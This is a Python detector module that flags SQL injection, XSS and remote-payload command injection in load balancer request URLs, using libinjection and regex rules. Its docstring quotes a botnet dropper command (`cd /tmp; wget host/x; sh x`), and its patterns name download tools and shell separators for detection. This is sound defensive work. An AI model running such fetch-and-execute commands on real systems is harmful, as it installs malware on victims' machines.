"""SQL injection, XSS and remote-payload command injection in ALB request URLs.

Each path segment and each query parameter name and value is URL-decoded up to
`max_decode_passes` times, which undoes double and triple encoding. libinjection
(libinjection-python) then checks every distinct form. It tokenizes SQL and HTML instead of
matching a fixed list of patterns. Two small rules cover what libinjection does not look for:
- `javascript:` / `vbscript:` URIs with code in a value (reflected into an href, they run);
- a download tool (wget, curl, tftp, ftpget) together with a shell command separator, the
  shape of IoT-botnet droppers such as `cd /tmp; wget host/x; sh x`, reported as malware.
"""

import re
from collections.abc import Iterable
from dataclasses import dataclass
from urllib.parse import unquote, unquote_plus, urlsplit

import libinjection

from logparsers.alb import AlbRecord
from threats.detectors.base import (
    Detection,
    Severity,
    ThreatType,
    WebAttackThresholds,
    fingerprint,
    severity_for,
    window_bounds,
)
from threats.detectors.windows import Hit, HitGroup, RecordDetector

# The scheme must be followed by a call, a template literal or an assignment, so that a title
# such as "JavaScript: The Good Parts" is not taken for code.
_SCRIPT_URI = re.compile(
    r"^[\s\x00-\x1f]*(?:javascript|vbscript)[\s\x00-\x1f]*:.*[(`=]", re.IGNORECASE | re.DOTALL
)
_DOWNLOAD = re.compile(
    r"(?:^|[\s;&|`(])(?:wget|curl|tftp|ftpget)\s+(?:-\S+\s+)*[^\s;&|]*[./][^\s;&|]*", re.IGNORECASE
)
_SHELL_SEPARATOR = re.compile(r";|\||`|&&|\$\(")
# Matched values are cut to this length in the evidence.
_MAX_VALUE = 200
BASE_SEVERITY = {
    ThreatType.SQL_INJECTION: Severity.HIGH,
    ThreatType.XSS: Severity.MEDIUM,
    ThreatType.MALWARE: Severity.HIGH,
}


@dataclass(frozen=True, slots=True)
class Finding:
    """One attack pattern found in one part of a URL."""

    type: ThreatType
    location: str
    rule: str
    value: str
    decode_passes: int


def decoded_forms(text: str, max_passes: int, *, plus_is_space: bool) -> list[str]:
    """Return `text` and its successive URL-decodings, stopping when one changes nothing."""
    decode = unquote_plus if plus_is_space else unquote
    forms = [text]
    for _ in range(max_passes):
        decoded = decode(forms[-1])
        if decoded == forms[-1]:
            break
        forms.append(decoded)
    return forms


def inspect_url(url: str, max_passes: int = 3) -> list[Finding]:
    """Return at most one finding per threat type for a request URL (absolute or path only)."""
    parts = urlsplit(url)
    findings: dict[ThreatType, Finding] = {}
    for location, text, plus_is_space in _url_parts(parts.path, parts.query):
        for passes, form in enumerate(decoded_forms(text, max_passes, plus_is_space=plus_is_space)):
            for finding in _check(form, location, passes):
                findings.setdefault(finding.type, finding)
    return list(findings.values())


def _url_parts(path: str, query: str) -> Iterable[tuple[str, str, bool]]:
    for segment in path.split("/"):
        if segment:
            yield "path", segment, False
    for pair in query.split("&"):
        name, equals, value = pair.partition("=")
        if not equals:
            yield "query", pair, True
            continue
        yield "query name", name, True
        yield f"query:{unquote_plus(name)[:50]}", value, True


def _check(text: str, location: str, passes: int) -> Iterable[Finding]:
    if not text:
        return
    value = text[:_MAX_VALUE]
    sqli = libinjection.is_sql_injection(text)
    if sqli["is_sqli"]:
        yield Finding(
            ThreatType.SQL_INJECTION,
            location,
            f"libinjection-sqli:{sqli['fingerprint']}",
            value,
            passes,
        )
    if libinjection.is_xss(text)["is_xss"]:
        yield Finding(ThreatType.XSS, location, "libinjection-xss", value, passes)
    elif _SCRIPT_URI.search(text):
        yield Finding(ThreatType.XSS, location, "script-uri", value, passes)
    if _DOWNLOAD.search(text) and _SHELL_SEPARATOR.search(text):
        yield Finding(ThreatType.MALWARE, location, "remote-download-command", value, passes)


class WebAttackDetector(RecordDetector):
    """Decide that a client sent SQL injection, XSS or a remote-payload command in a URL."""

    name = "web_attacks"
    version = "1"
    source_type = "alb"

    def __init__(self, thresholds: WebAttackThresholds | None = None) -> None:
        self.thresholds = thresholds or WebAttackThresholds()
        super().__init__(self.thresholds.window_seconds)

    def _hits(self, record: AlbRecord) -> Iterable[Hit]:
        if not record.url or not record.client_ip:
            return
        for finding in inspect_url(record.url, self.thresholds.max_decode_passes):
            yield Hit(
                key=(finding.type, record.client_ip, record.domain_name or record.elb),
                time=record.request_creation_time or record.time,
                blocked=record.elb_status_code == 403,
                sample=_sample(record, finding),
                tallies={"rule": finding.rule, "location": finding.location},
            )

    def _detection(self, group: HitGroup) -> Detection | None:
        if group.count < self.thresholds.min_requests:
            return None
        threat, client, site = group.key
        blocked = group.blocked == group.count
        reached = any(sample["target_status_code"] is not None for sample in group.samples)
        # A request answered by the load balancer itself (redirect, fixed response, WAF) never
        # reached application code, so it is one level less severe.
        severity = severity_for(BASE_SEVERITY[threat], blocked=blocked or not reached)
        rules = dict(group.tallies["rule"])
        targets = [sample["target_ip"] for sample in group.samples if sample["target_ip"]]
        return Detection(
            type=threat,
            severity=severity,
            source_ip=client,
            destination_ip=targets[0] if targets else None,
            description=_describe(threat, client, site, group.count, blocked, reached),
            blocked=blocked,
            detector=self.name,
            detector_version=self.version,
            confidence=0.9 if any(rule.startswith("libinjection") for rule in rules) else 0.7,
            evidence={
                "site": site,
                "requests": group.count,
                "rules": rules,
                "locations": dict(group.tallies["location"]),
                "samples": group.samples,
                "first_seen": group.first_seen.isoformat(),
                "last_seen": group.last_seen.isoformat(),
                **window_bounds(group.window, self.window_seconds),
            },
            occurred_at=group.first_seen,
            fingerprint=fingerprint(self.name, threat, client, site),
            features={
                "requests": group.count,
                "rejected_ratio": group.blocked / group.count,
                "decode_passes": max(sample["decode_passes"] for sample in group.samples),
            },
        )


def _sample(record: AlbRecord, finding: Finding) -> dict:
    return {
        "line": record.line_number,
        "method": record.method,
        "url": (record.url or "")[:500],
        "elb_status_code": record.elb_status_code,
        "target_status_code": record.target_status_code,
        "target_ip": record.target_ip,
        "user_agent": record.user_agent,
        "location": finding.location,
        "rule": finding.rule,
        "matched_value": finding.value,
        "decode_passes": finding.decode_passes,
    }


def _describe(
    threat: ThreatType, client: str, site: str, count: int, blocked: bool, reached: bool
) -> str:
    label = {
        ThreatType.SQL_INJECTION: "SQL injection",
        ThreatType.XSS: "Cross-site scripting",
        ThreatType.MALWARE: "Command injection downloading a remote payload",
    }[threat]
    outcome = (
        "blocked with 403"
        if blocked
        else ("reached a target" if reached else "answered by the load balancer")
    )
    return f"{label} in {count} request(s) from {client} to {site}, {outcome}"
